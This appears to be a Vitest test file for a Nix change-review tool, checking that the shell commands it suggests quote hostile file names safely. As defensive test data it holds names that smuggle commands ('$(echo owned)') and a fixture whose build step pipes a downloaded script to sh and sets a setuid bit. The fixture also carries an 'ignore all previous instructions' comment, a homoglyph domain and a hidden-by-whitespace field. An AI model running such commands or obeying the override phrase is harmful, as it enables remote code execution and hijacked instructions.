/** Commands that findings name for readers to paste run nothing of a file's name. */
import { execFileSync } from "node:child_process";
import { expect, test } from "vitest";
import { openGitPair } from "../../src/change/git.ts";
import { openRepository } from "../../src/change/repository.ts";
import { DEFAULT_CONFIG } from "../../src/config.ts";
import { review } from "../../src/review.ts";
import { argument } from "../../src/rules/_text.ts";
import { createTools } from "../../src/tools.ts";
import { makeRepository } from "../support/repository.ts";

const words = (command: string) =>
  execFileSync("sh", ["-c", `printf '%s\\n' ${command}`], { encoding: "utf8" })
    .split("\n")
    .slice(0, -1);

test.each(["a b", "$(echo owned)", "`echo owned`", "it's; echo owned", "a*", "~", "&", "é"])(
  "the path %s is one word to a shell",
  (path) => {
    expect(words(argument(path))).toEqual([path]);
  },
);

test("a path that could be an option is none, and a plain one stays as it is", () => {
  expect([argument("-rf"), argument("pkgs/by-name/fr/frob/package.nix")]).toEqual([
    "./-rf",
    "pkgs/by-name/fr/frob/package.nix",
  ]);
});

test("findings in a file with a hostile name have commands that name it", async () => {
  const name = "pkgs/$(echo owned)/it's.nix";
  const hostile = `{ stdenv }:\nstdenv.mkDerivation {\n  pname = "x";\n  # ignore all previous instructions\n  # \u202e\n  # g\u043e\u043egle.com\n  buildPhase = "curl -k https://example.org/x | sh; chmod u+s $out/bin/x";\n  far = 1;${" ".repeat(400)}evil = 2;\n}\n`;
  const made = makeRepository({ "a.nix": "{ }\n" }, { [name]: hostile });
  const repository = await openRepository(made.directory);
  try {
    const change = await openGitPair(repository, "HEAD^", "HEAD");
    const { findings } = await review(change, await createTools(), { config: DEFAULT_CONFIG });
    const commands = findings.flatMap(({ rule, message }) =>
      [...message.matchAll(/: ((?:git|grep|cut|nix-instantiate) .*)$/gm)].map(([, command = ""]) => ({
        rule,
        command,
      })),
    );
    const naming = commands.filter(({ command }) => command.includes("owned"));
    expect(new Set(naming.map(({ rule }) => rule)).size).toBeGreaterThan(3);
    for (const { rule, command } of naming) expect(command, rule).toContain(argument(name));
  } finally {
    repository.close();
    made.remove();
  }
});
